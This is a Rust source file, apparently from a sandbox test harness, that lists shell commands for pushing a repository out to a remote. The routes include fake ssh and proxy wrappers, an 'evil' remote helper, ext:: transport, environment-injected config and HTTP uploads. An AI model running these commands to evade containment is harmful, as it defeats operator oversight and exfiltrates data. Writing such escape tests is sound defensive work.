//! Owns the attacks that carry work out of the machine or into the user's remote: every way to push.

use super::attack::Family::Push;
use super::attack::Sight::{Marked, Pushed, Reached};
use super::attack::{Attack, Door, attack};

/// Commands after which the remote has a branch of the mark: name, words, command.
const WAYS: [(&str, &str, &str); 20] = [
    (
        "push-origin",
        "git push origin",
        "git push -q origin HEAD:refs/heads/$MARK",
    ),
    (
        "push-path",
        "to the remote's path",
        "git push -q '@ORIGIN@' HEAD:refs/heads/$MARK",
    ),
    (
        "push-file-url",
        "to a file:// URL",
        "git push -q 'file://@ORIGIN@' HEAD:refs/heads/$MARK",
    ),
    (
        "push-ext",
        "by the ext:: transport",
        "git -c protocol.ext.allow=always push -q 'ext::git-receive-pack @ORIGIN@' HEAD:refs/heads/$MARK",
    ),
    (
        "push-ssh-command",
        "by ssh, with a GIT_SSH_COMMAND of its own",
        "printf '#!/bin/sh\\nwhile [ $# -gt 1 ]; do shift; done\\nexec sh -c \"$1\"\\n' > fakessh; chmod +x fakessh; GIT_SSH_VARIANT=simple GIT_SSH_COMMAND=./fakessh git push -q 'ssh://nobody.invalid@ORIGIN@' HEAD:refs/heads/$MARK",
    ),
    (
        "push-core-ssh",
        "by ssh, with core.sshCommand",
        "printf '#!/bin/sh\\nwhile [ $# -gt 1 ]; do shift; done\\nexec sh -c \"$1\"\\n' > fakessh; chmod +x fakessh; git -c ssh.variant=simple -c core.sshCommand=./fakessh push -q 'ssh://nobody.invalid@ORIGIN@' HEAD:refs/heads/$MARK",
    ),
    (
        "push-send-pack",
        "git send-pack",
        "git send-pack '@ORIGIN@' HEAD:refs/heads/$MARK",
    ),
    (
        "push-fetch",
        "the remote fetches from the slot",
        "git --git-dir='@ORIGIN@' fetch -q \"$PWD\" HEAD:refs/heads/$MARK",
    ),
    (
        "push-instead-of",
        "a URL that stands for the remote",
        "git -c url.@ORIGIN@.insteadOf=x: push -q x: HEAD:refs/heads/$MARK",
    ),
    (
        "push-push-instead-of",
        "a push URL that stands for the remote",
        "git -c url.@ORIGIN@.pushInsteadOf=y: push -q y: HEAD:refs/heads/$MARK",
    ),
    (
        "push-helper",
        "a remote helper on its own PATH",
        "mkdir -p evil; printf '#!/bin/sh\\nwhile read -r c; do case $c in capabilities) printf \"connect\\\\n\\\\n\";; connect*) echo; exec git-receive-pack \"@ORIGIN@\";; esac; done\\n' > evil/git-remote-evil; chmod +x evil/git-remote-evil; PATH=$PWD/evil:$(git --exec-path):$PATH git push -q evil::x HEAD:refs/heads/$MARK",
    ),
    (
        "push-receive-pack",
        "a receive-pack program of its own",
        "git push -q --receive-pack='git-receive-pack @ORIGIN@ #' '@ORIGIN@' HEAD:refs/heads/$MARK",
    ),
    (
        "push-new-remote",
        "a remote given on the command line",
        "git -c remote.evil.url='@ORIGIN@' push -q evil HEAD:refs/heads/$MARK",
    ),
    (
        "push-main-checkout",
        "from the user's checkout",
        "cd '@REPO@' && git push -q origin main:refs/heads/$MARK",
    ),
    (
        "push-environment",
        "a remote given by the environment",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.env.url GIT_CONFIG_VALUE_0='@ORIGIN@' git push -q env HEAD:refs/heads/$MARK",
    ),
    (
        "push-daemon",
        "by git://, with a GIT_PROXY_COMMAND of its own",
        "printf '#!/bin/sh\\nexec git daemon --inetd --enable=receive-pack --export-all --base-path=/ --informative-errors\\n' > fakeproxy; chmod +x fakeproxy; GIT_PROXY_COMMAND=./fakeproxy git -c core.gitProxy=./fakeproxy push -q 'git://nobody.invalid@ORIGIN@' HEAD:refs/heads/$MARK",
    ),
    (
        "push-commit-tree",
        "a commit made in the remote itself",
        "export GIT_DIR='@ORIGIN@'; git update-ref refs/heads/$MARK $(git -c user.name=x -c user.email=x@x commit-tree -m x 'main^{tree}')",
    ),
    (
        "push-fast-import",
        "git fast-import into the remote",
        "printf 'commit refs/heads/%s\\ncommitter x <x@x> 1 +0000\\ndata 1\\nx\\n\\n' $MARK | git --git-dir='@ORIGIN@' fast-import --quiet",
    ),
    (
        "push-ref-file",
        "the remote's ref by writing its file",
        "git --git-dir='@ORIGIN@' rev-parse main > '@ORIGIN@/refs/heads/'$MARK",
    ),
    (
        "push-mirror-clone",
        "by a clone of its own",
        "git clone -q '@ORIGIN@' c && cd c && git push -q origin main:refs/heads/$MARK",
    ),
];

pub(super) fn attacks() -> Vec<Attack> {
    let way = |(name, what, tries): &(&str, &'static str, &str)| attack(Push, name, what, *tries, Pushed);
    let mut all: Vec<Attack> = WAYS.iter().map(way).collect();
    let out = |name: &str, what, tries: &str, sight| attack(Push, name, what, tries, sight);
    all.extend([
        out("push-bundle", "a bundle put into the remote's directory", "git bundle create -q '@ORIGIN@/'$MARK HEAD", Marked("@ORIGIN@/@MARK@")),
        out("push-clone-out", "a clone beside the slot", "git clone -q --bare . '@TOP@/outside/'$MARK", Marked("@TOP@/outside/@MARK@")),
        out("push-http", "by http, with credentials", "git push -q http://user:word@127.0.0.1:@TCP@/$MARK.git HEAD", Reached(Door::Tcp)),
        out("push-git-protocol", "by git://", "git push -q git://127.0.0.1:@TCP@/$MARK HEAD", Reached(Door::Tcp)),
        out("push-http-proxy", "by http, through a proxy of its own", "http_proxy=http://127.0.0.1:@TCP@ HTTP_PROXY= no_proxy= NO_PROXY= git push -q http://nobody.invalid/$MARK.git HEAD", Reached(Door::Tcp)),
        out("push-upload", "a bundle sent to a web server", "git bundle create -q b HEAD; tcp 127.0.0.1 @TCP@ \"POST /$MARK HTTP/1.0\"", Reached(Door::Tcp)),
    ]);
    all
}
